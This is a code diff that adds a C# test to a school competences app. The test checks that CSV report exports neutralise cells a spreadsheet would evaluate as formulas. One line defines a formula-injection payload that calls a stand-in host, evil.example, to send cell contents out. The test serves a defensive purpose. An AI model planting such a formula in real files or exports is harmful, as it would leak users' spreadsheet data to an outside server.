@@ -193,6 +193,22 @@ public sealed class ClassReportTests(CompetencesApp app) : IClassFixture<Compete
     }
 
     [Fact]
+    public async Task Csv_exports_neutralise_cells_a_spreadsheet_would_evaluate()
+    {
+        await PeriodDataAsync(); // the periods
+        var admin = app.AdminClient();
+        var subject = await app.NewSubjectAsync();
+        const string formula = "=WEBSERVICE(\"https://evil.example/?\"&A1)";
+        var (_, items) = await app.CreateReferentialAsync(admin, subject, "3E", items: 1, itemName: formula);
+        await EvaluateAsync(admin, "2026-12-10", items, (app.Student1, items[0], "V"));
+
+        var releve = ParseCsv(await GetBytesAsync(app.Teacher1Client(), $"/api/competences/reports/students/{app.Student1}?subject={subject}&periodId=2&format=csv", "text/csv"));
+        var row = Assert.Single(releve.Records);
+        Assert.Equal("'" + formula + " 1", row[3]);
+        Assert.Equal("67", row[5]); // numbers stay numbers
+    }
+
+    [Fact]
     public async Task Class_table_and_releve_export_as_csv_and_pdf()
     {
         var (subject, _) = await PeriodDataAsync();
